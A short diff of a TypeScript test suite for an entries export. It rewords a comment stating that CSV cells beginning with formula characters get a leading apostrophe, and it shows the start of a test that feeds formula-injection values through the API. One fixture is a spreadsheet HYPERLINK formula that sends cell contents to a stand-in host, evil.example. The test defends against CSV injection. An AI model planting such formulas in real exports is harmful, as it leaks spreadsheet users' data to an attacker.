@@ -195,10 +195,10 @@ describe('entries export: format and filters', () => {
   });
 });
 
-// CONTRACT (CSV export): a text cell that starts with =, +, -, @, TAB or CR is written with a
-// leading apostrophe, so a spreadsheet shows it instead of running it; JSON Lines keeps the values
-// exactly as stored. The values come in through the real API, as an attacker would send them (the
-// API trims a leading TAB or CR: test/unit/csv.test.ts covers those).
+// docs/operations.md#exports-ces-entries-export: a text cell that starts with =, +, -, @, TAB or CR
+// is written with a leading apostrophe, so a spreadsheet shows it instead of running it; JSON Lines
+// keeps the values exactly as stored. The values come in through the real API, as an attacker would
+// send them (the API trims a leading TAB or CR: test/unit/csv.test.ts covers those).
 describe('entries export: spreadsheet formulas from the API are never run', () => {
   const FORMULAS: Array<[field: string, value: string]> = [
     ['full_name', '=HYPERLINK("https://evil.example/?d="&A1,"Click")'],
